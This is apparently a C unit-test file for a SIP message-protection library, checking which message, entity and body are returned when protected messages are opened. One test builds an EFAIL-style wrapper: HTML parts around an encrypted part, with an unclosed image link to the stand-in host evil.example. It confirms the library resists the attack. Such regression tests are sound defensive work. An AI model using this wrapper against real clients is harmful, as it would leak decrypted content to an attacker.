/* SPDX-License-Identifier: BSD-2-Clause */
/* What an opened message hands out: message, entity, body; which part; never opened and unprotected octets
 * together. */
#include "tunnel/fixture.h"

#define PLAIN "Content-Type: text/plain\r\n"
#define MIXED "Content-Type: multipart/mixed;boundary=o\r\n"
#define AIB "Content-Type: message/sipfrag\r\nContent-Disposition: aib; handling=optional\r\n"

static sipveil_span part(lab *l, const char *body, const sipveil_key *signer, const sipveil_key *recipient)
{
    return entity_of(l, protect(l, HEAD, PLAIN, text(body), signer, recipient));
}

static sipveil_span optional(lab *l, sipveil_span entity)
{
    if (!sv_starts_nocase_str(entity, "Content-Type: multipart/")) {
        return edited(l, entity, "handling=required", "handling=optional");
    }
    return edited(l, entity, "Content-Type", "Content-Disposition: render;handling=optional\r\nContent-Type");
}

static sipveil_span aib_part(lab *l)
{
    return entity_of(l, protect(l, HEAD, AIB, SV_SPAN(FROM TO CALL_ID CSEQ CONTACT DATE_NOW), l->alice, NULL));
}

static sipveil_span mixed(lab *l, const sipveil_span *parts, size_t count)
{
    return compose(l, HEAD, MIXED, multipart(l, "o", parts, count));
}

/* The three forms, for a tunnel and for a body. */
static void forms(void **state)
{
    lab *l = begin(state);
    assert_code(try_open(l, tunnel(l, HEAD, invite(l), l->alice, l->bob)), SIPVEIL_OK);
    assert_same(l->opened.message, invite(l));
    assert_same(l->opened.body, SV_SPAN(SDP));
    assert_true(sv_starts_nocase_str(l->opened.entity, "Content-Type: message/sip\r\n\r\nINVITE "));
    sipveil_span message = protect(l, HEAD, "Content-Type: application/sdp\r\nContent-Language: en\r\n", SV_SPAN(SDP),
                                   l->alice, l->bob);
    assert_code(try_open(l, message), SIPVEIL_OK);
    assert_same(l->opened.message,
                compose(l, HEAD, "Content-Type: application/sdp\r\nContent-Language: en\r\n", SV_SPAN(SDP)));
    assert_same(l->opened.entity, SV_SPAN("Content-Type: application/sdp\r\nContent-Language: en\r\n\r\n" SDP));
    assert_same(l->opened.body, SV_SPAN(SDP));
    /* nothing protected */
    l->options.allow_unprotected = true;
    assert_code(try_open(l, invite(l)), SIPVEIL_OK);
    assert_false(l->opened.has_entity);
    assert_same(l->opened.message, invite(l));
    assert_same(l->opened.body, SV_SPAN(SDP));
    assert_false(l->opened.is_protected || l->opened.is_signed || l->opened.is_encrypted || l->opened.is_authenticated);
    /* a base64 body comes out decoded as body, as it was as message */
    message = protect(l, HEAD, PLAIN "Content-Transfer-Encoding: base64\r\n", SV_SPAN("aGVsbG8="), l->alice, NULL);
    assert_code(try_open(l, message), SIPVEIL_OK);
    assert_same(l->opened.body, SV_SPAN("hello"));
    assert_same(body_of(l->opened.message), SV_SPAN("aGVsbG8="));
}

/* Several opened parts: the first with handling=required. */
static void which_part(void **state)
{
    lab *l = begin(state);
    sipveil_span first = part(l, "first", l->alice, NULL), second = part(l, "second", NULL, l->kek);
    sipveil_span text_part = SV_SPAN(PLAIN "\r\nunprotected");
    sipveil_span first_optional = optional(l, first), second_optional = optional(l, second);
    const struct {
        sipveil_span parts[3];
        size_t count;
        const char *body;
    } table[] = {
        {{first, second}, 2, "first"},
        {{second, first}, 2, "second"},
        {{first_optional, second}, 2, "second"},
        {{second_optional, first}, 2, "first"},
        {{first_optional, second_optional}, 2, "first"},
        {{text_part, first_optional, second}, 3, "second"},
        {{text_part, second_optional}, 2, "second"},
    };
    for (size_t i = 0; i < sizeof table / sizeof *table; i++) {
        assert_code(try_open(l, mixed(l, table[i].parts, table[i].count)), SIPVEIL_OK);
        if (!sv_equal_str(l->opened.body, table[i].body)) {
            fail_msg("row %zu: %.*s", i, (int)l->opened.body.len, l->opened.body.data);
        }
        assert_false(contains(l->opened.message, "unprotected")); /* ADV-147 */
        assert_int_equal(l->opened.is_signed, strcmp(table[i].body, "first") == 0);
        assert_int_equal(l->opened.is_encrypted, strcmp(table[i].body, "second") == 0);
    }
}

/* TUN-24, ADV-147: a captured layer between an attacker's parts is opened alone. */
static void between_other_parts(void **state)
{
    lab *l = begin(state);
    sipveil_span parts[] = {SV_SPAN("Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/"),
                            part(l, "secret", NULL, l->kek), SV_SPAN("Content-Type: text/html\r\n\r\n\">")};
    assert_code(try_open(l, mixed(l, parts, 3)), SIPVEIL_OK);
    assert_same(l->opened.body, SV_SPAN("secret"));
    assert_same(body_of(l->opened.message), SV_SPAN("secret"));
    assert_false(contains(l->opened.message, "evil"));
}

/* A tunnel whose own body is protected too: the inner message has it in place. */
static void tunnel_of_a_protected_body(void **state)
{
    lab *l = begin(state);
    sipveil_span inner = protect(l, HEAD, "Content-Type: application/sdp\r\n", SV_SPAN(SDP), NULL, l->bob);
    assert_code(try_open(l, tunnel(l, HEAD, inner, l->alice, NULL)), SIPVEIL_OK);
    assert_same(l->opened.message, invite(l));
    assert_true(l->opened.is_signed && l->opened.is_encrypted);
    /* for others: it stays as it is, byte-identical */
    l->options.keyring = l->outsider;
    assert_code(try_open(l, tunnel(l, HEAD, inner, l->alice, NULL)), SIPVEIL_NO_KEY);
    l->options.keyring = l->ring;
    inner = protect(l, HEAD, "Content-Type: application/sdp\r\n", SV_SPAN(SDP), NULL, l->lost_kek);
    assert_code(try_open(l, tunnel(l, HEAD, inner, NULL, l->kek)), SIPVEIL_OK);
    assert_same(l->opened.message, inner);
}

/* The AIB proves the message and is no content of it; other parts stay. */
static void without_the_aib(void **state)
{
    lab *l = begin(state);
    sipveil_span a = SV_SPAN(PLAIN "\r\na"), b = SV_SPAN("Content-Type: text/html\r\n\r\nb"), aib = aib_part(l);
    sipveil_span one[] = {a, aib}, two[] = {a, aib, b}, left[] = {a, b};
    assert_code(try_open(l, mixed(l, one, 2)), SIPVEIL_OK);
    assert_same(l->opened.message, compose(l, HEAD, PLAIN, SV_SPAN("a")));
    assert_code(try_open(l, mixed(l, two, 3)), SIPVEIL_OK);
    assert_same(l->opened.message, compose(l, HEAD, MIXED, multipart(l, "o", left, 2)));
    assert_true(l->opened.is_signed);
    assert_true(sv_starts_nocase_str(l->opened.entity, "Content-Type: message/sipfrag"));
    /* deeper inside: proven, and nothing is lost */
    sipveil_span inner = multipart(l, "i", one, 2);
    sv_buffer nested;
    sv_buffer_init(&nested, l->arena, inner.len + 64, 1 << 20);
    sv_put_str(&nested, "Content-Type: multipart/mixed;boundary=i\r\n\r\n");
    sv_put(&nested, inner);
    sipveil_span outer[] = {sv_buffer_span(&nested), b};
    sipveil_span message = mixed(l, outer, 2);
    assert_code(try_open(l, message), SIPVEIL_OK);
    assert_true(checked(l, "TUN-51", "passed"));
    assert_same(l->opened.message, message);
    /* beside a protected body: that is the content */
    sipveil_span both[] = {part(l, "body", NULL, l->kek), aib};
    assert_code(try_open(l, mixed(l, both, 2)), SIPVEIL_OK);
    assert_same(l->opened.body, SV_SPAN("body"));
    l->options.require = SIPVEIL_REQUIRE_SIGNED | SIPVEIL_REQUIRE_ENCRYPTED;
    assert_code(try_open(l, mixed(l, both, 2)), SIPVEIL_OK);
    l->options.require = SIPVEIL_REQUIRE_SIGNED;
    assert_code(try_open(l, mixed(l, one, 2)), SIPVEIL_OK);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(forms),           cmocka_unit_test(which_part),
        cmocka_unit_test(between_other_parts), cmocka_unit_test(tunnel_of_a_protected_body),
        cmocka_unit_test(without_the_aib),
    };
    return cmocka_run_group_tests_name("what is handed out", tests, lab_setup, lab_teardown);
}
